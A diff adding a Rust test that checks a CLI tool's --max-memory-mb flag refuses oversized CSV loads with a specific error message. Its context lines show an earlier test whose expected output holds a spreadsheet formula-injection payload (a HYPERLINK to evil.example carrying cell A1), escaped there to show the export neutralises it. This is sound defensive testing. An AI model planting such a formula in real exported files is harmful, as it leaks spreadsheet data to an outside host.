@@ -634,3 +634,28 @@ fn dropoff_export_neutralises_formula_cells() {
         "user\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\"\n"
     );
 }
+
+#[test]
+fn max_memory_flag_refuses_a_load_that_would_not_fit() {
+    // The demo log (about 3.5 MB) needs more than 2 MB: refused after its first
+    // 256 KB with the numbers; with 100 MB it loads.
+    let csv = tidemark::demo::demo_csv();
+    let demo = temp_file("demo_mem.csv", csv.as_bytes());
+    let path = demo.to_str().expect("path");
+    let out = tidemark(&["inspect", path, "--max-memory-mb", "2"]);
+    assert_eq!(out.status.code(), Some(1));
+    let err = stderr(&out);
+    let mb = csv.len() as f64 / 1e6;
+    assert!(
+        err.starts_with(&format!(
+            "{path}: the file is too large to analyse here: its {mb:.1} MB would need about"
+        )) && err.ends_with(
+            "more than the limit of 2.0 MB; split it into smaller files (e.g. by date range)"
+        ),
+        "{err}"
+    );
+    let v = json(&tidemark(&["inspect", path, "--max-memory-mb", "100"]));
+    assert_eq!(v["rows"], v["rows_read"]);
+    let out = tidemark(&["inspect", path, "--max-memory-mb", "0"]);
+    assert_eq!(out.status.code(), Some(2), "clap refuses 0");
+}
